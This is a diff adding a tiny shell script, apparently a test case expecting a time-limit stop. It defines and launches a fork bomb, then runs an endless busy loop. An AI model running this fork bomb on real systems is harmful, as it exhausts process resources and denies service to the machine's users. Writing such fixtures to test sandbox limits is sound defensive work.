@@ -1,0 +1,4 @@
+# ends: time limit
+bomb() { bomb | bomb & }
+bomb
+while true; do :; done
